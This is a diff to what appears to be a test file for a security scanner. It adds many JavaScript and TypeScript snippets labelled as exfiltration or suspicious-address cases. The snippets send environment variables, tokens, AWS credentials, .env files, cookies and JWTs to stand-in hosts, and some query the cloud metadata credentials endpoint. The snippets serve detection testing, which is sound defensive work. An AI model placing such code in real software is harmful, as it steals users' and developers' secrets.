@@ -71,6 +71,127 @@ const HIDDEN: readonly (readonly [string, string, string])[] = [
     "src/case.js",
     "import os from 'os';\nfetch('https://stats.example', { method: 'POST', body: JSON.stringify({ u: os.userInfo(), h: os.hostname() }) });",
   ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const data = JSON.stringify(process.env);\nawait fetch('https://x.example', { method: 'POST', body: data });",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const { env } = process;\nfetch('https://x.example/?' + new URLSearchParams(env));",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import { env } from 'node:process';\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(env) });",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const http = require('http');\nhttp.get('http://x.example/?t=' + process.env.GITHUB_TOKEN);",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const { request } = require('undici');\nrequest('https://x.example', { method: 'POST', body: JSON.stringify(process.env) });",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import got from 'got';\nawait got.post('https://x.example', { json: { ...process.env } });",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const s = require('net').connect(9001, 'x.example');\ns.end(JSON.stringify(process.env));",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const fs = require('fs');\nconst key = fs.readFileSync(process.env.HOME + '/.aws/credentials');\nrequire('https').request('https://x.example', { method: 'POST' }).end(key);",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "document.querySelector('img').src = `https://x.example/${document.cookie}`;",
+  ],
+  ["js-exfiltration", "src/case.js", "fetch('/log', { method: 'POST', body: document.cookie });"],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "window.location = 'https://x.example/?c=' + encodeURIComponent(document.cookie);",
+  ],
+  ["js-exfiltration", "src/case.js", "new WebSocket('wss://x.example').send(localStorage.getItem('jwt'));"],
+  ["js-exfiltration", "src/case.js", "window.open('https://x.example/?' + document.cookie);"],
+  ["js-exfiltration", "src/case.js", "navigator.sendBeacon('https://x.example', document.cookie);"],
+  [
+    "js-suspicious-address",
+    "src/case.js",
+    "fetch('https://requestbin.net/r/abc', { method: 'POST', body: x });",
+  ],
+  [
+    "js-suspicious-address",
+    "src/case.js",
+    "await fetch(`https://api.telegram.org/bot${t}/sendMessage?text=${x}`);",
+  ],
+  ["js-suspicious-address", "src/case.js", "fetch('http://185.220.101.4:8080/x');"],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "require('dns').resolve4(process.env.NPM_TOKEN + '.x.example', () => {});",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import { Resolver } from 'node:dns';\nnew Resolver().resolveTxt(process.env.SECRET + '.x.example', cb);",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const e = Object.fromEntries(Object.entries(process.env));\naxios.post(u, e);",
+  ],
+  ["js-exfiltration", "src/case.js", "fetch(u, { headers: { 'x-env': JSON.stringify(process.env) } });"],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "for (const [k, v] of Object.entries(process.env)) fetch(`https://x.example/?${k}=${v}`);",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import { readFile } from 'node:fs/promises';\nconst d = await readFile('.env', 'utf8');\nawait fetch('https://x.example', { method: 'POST', body: d });",
+  ],
+  [
+    "js-suspicious-address",
+    "src/case.js",
+    "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const sock = require('dgram').createSocket('udp4');\nsock.send(process.env.TOKEN, 53, 'x.example');",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "require('https').get({ host: 'x.example', path: '/' + Buffer.from(JSON.stringify(process.env)).toString('hex') });",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "form.action = 'https://x.example/?' + document.cookie;\nform.submit();",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const i = document.createElement('img');\ni.setAttribute('src', 'https://x.example/?' + document.cookie);",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import nodemailer from 'nodemailer';\nnodemailer.createTransport(o).sendMail({ text: JSON.stringify(process.env) });",
+  ],
 ];
 
 describe("JavaScript and TypeScript", () => {
